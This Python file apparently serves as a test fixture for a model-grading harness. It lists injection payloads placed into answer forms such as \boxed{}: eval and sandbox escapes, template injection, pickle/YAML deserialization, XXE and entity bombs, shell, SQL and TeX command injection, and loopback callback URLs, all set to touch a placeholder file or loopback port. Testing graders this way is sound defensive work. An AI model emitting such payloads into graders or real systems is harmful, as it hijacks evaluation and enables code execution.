"""Texts that do something if anybody evaluates, formats, expands, unpickles or renders them. None is the answer, 7.

Harmless wherever they run: each makes an empty file at @FILE@, or connects to @PORT@ on loopback,
or sets a variable in its
own process. The marks are filled in by the run.
"""

_TOUCH = "__import__('os').system('touch @FILE@')"
_OPEN = "open('@FILE@','w')"
_SUBCLASSES = "().__class__.__base__.__subclasses__()"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "Python expression": (
        _TOUCH,
        _OPEN,
        "__import__('pathlib').Path('@FILE@').touch()",
        f"exec(\"{_OPEN}\")",
        f"eval(\"{_OPEN}\")",
        f"(lambda:{_OPEN})()",
        f"[{_OPEN}]",
        f"8 if {_OPEN} else 9",
        f"8+0*len(str({_OPEN}))",
        f"f'{{{_TOUCH}}}'".replace("'touch @FILE@'", '"touch @FILE@"').replace("'os'", '"os"'),
        f"[c for c in {_SUBCLASSES} if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch @FILE@')",
        f"[c.__init__.__globals__['__builtins__']['open']('@FILE@','w') for c in {_SUBCLASSES} "
        "if c.__name__=='_wrap_close']",
        f"(x:={_OPEN})",
        f"print({_OPEN})",
        f"max([8,9],key=lambda k:{_OPEN})",
        "__builtins__['open']('@FILE@','w')",
        "globals()['__builtins__'].open('@FILE@','w')",
        "getattr(__import__('o'+'s'),'sys'+'tem')('touch @FILE@')",
        "__import__('subprocess').getoutput('touch @FILE@')",
        "type('X',(),{'__del__':lambda s:open('@FILE@','w')})()",
    ),
    "Python statement": (
        f"import os; {_OPEN}",
        "import os\nos.system('touch @FILE@')\nanswer = 8",
        f"def solution():\n    {_OPEN}\n    return 8\nsolution()",
        f"```python\n{_OPEN}\nprint(8)\n```",
        f"<llm-code>\n{_OPEN}\n</llm-code>",
        f"<tool_call>{{\"name\":\"python\",\"arguments\":{{\"code\":\"{_OPEN}\"}}}}</tool_call>",
    ),
    "environment": (
        "__import__('os').environ.__setitem__('ROLLMILL_CANARY','1')",
        "__import__('os').environ.update(ROLLMILL_CANARY='1')",
        "setattr(__import__('builtins'),'ROLLMILL_CANARY',1)",
        "exec('import builtins;builtins.ROLLMILL_CANARY=1')",
    ),
    "connection": (
        "__import__('socket').create_connection(('127.0.0.1',@PORT@)).send(b' @TOKEN@ ')",
        "__import__('urllib.request').request.urlopen('http://127.0.0.1:@PORT@/@TOKEN@')",
        "![8](http://127.0.0.1:@PORT@/@TOKEN@)",
        "<img src='http://127.0.0.1:@PORT@/@TOKEN@'>",
        "\\includegraphics{http://127.0.0.1:@PORT@/@TOKEN@}",
        "http://127.0.0.1:@PORT@/@TOKEN@",
    ),
    "sympy and friends": (
        f"sympify(\"{_TOUCH}\")".replace("'", "'"),
        "Symbol('x').__class__.__init__.__globals__['sys'].modules['os'].system('touch @FILE@')",
        "Integer(7).__class__.__mro__[-1].__subclasses__()",
        "lambdify([],\"__import__('os').system('touch @FILE@')\")()",
        "Function('f')(__import__('os').system('touch @FILE@'))",
        "S(\"open('@FILE@','w')\")",
        "numpy.load('@FILE@')+__import__('os').system('touch @FILE@')",
        "x.subs(x,__import__('os').system('touch @FILE@'))",
        "\\operatorname{eval}(open('@FILE@','w'))",
        "Run[\"touch @FILE@\"]",
    ),
    "format string": (
        "{0.__class__.__init__.__globals__}", "%(x)s%n%n%n", "%s" * 500, "{" + "0:>99999999" + "}", "{x!r:{x}}", "${8*8}",
        "%99999999d", "{__import__('os').system('touch @FILE@')}",
        "$(touch @FILE@)", "`touch @FILE@`",
    ),
    "template": (
        "{{ cycler.__init__.__globals__.os.popen('touch @FILE@').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ lipsum.__globals__['os'].system('touch @FILE@') }}",
        "{% for x in range(999999999) %}8{% endfor %}",
        "${__import__('os').system('touch @FILE@')}",
        "<% import os; os.system('touch @FILE@') %>",
        "<%= system('touch @FILE@') %>",
        "#{system('touch @FILE@')}",
        "{{8*1}}{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch @FILE@') }}",
        "<script>fetch('http://127.0.0.1:@PORT@/@TOKEN@')</script>",
    ),
    "pickle and markup": (
        "cos\nsystem\n(S'touch @FILE@'\ntR.",
        "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAh0b3VjaCB4eJSFlFKULg==",
        "!!python/object/apply:os.system ['touch @FILE@']",
        "!!python/object/new:open ['@FILE@','w']",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:@PORT@/@TOKEN@">]><a>&x;</a>',
        '<!DOCTYPE l [<!ENTITY a "8"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><l>&c;</l>',
        '{"__class__":"os.system","args":["touch @FILE@"]}',
        '{"$ref":"http://127.0.0.1:@PORT@/@TOKEN@"}',
    ),
    "shell, SQL and TeX": (
        "; touch @FILE@ ;", "| touch @FILE@", "8'; touch @FILE@; '", "\"&& touch @FILE@ &&\"", "\\write18{touch @FILE@}",
        "\\immediate\\write18{touch @FILE@}",
        "\\directlua{os.execute('touch @FILE@')}", "\\input{|touch @FILE@}",
        "\\newwrite\\f\\immediate\\openout\\f=@FILE@", "'; COPY (SELECT 8) TO '@FILE@'; --",
        "ATTACH '@FILE@' AS x", "=cmd|'/c touch @FILE@'!A1", "require('child_process').execSync('touch @FILE@')",
        "\\def\\x{\\x}\\x", "\\newcommand{\\a}{\\a\\a}\\a",
    ),
}  # fmt: skip

FORMS: tuple[tuple[str, str], ...] = (
    ("in a box", "\\boxed{%s}"),
    ("after a phrase", "The answer is %s"),
    ("bare", "%s"),
    ("in dollars", "So $%s$"),
)
"""Where a payload stands. Every payload is put in each of them."""
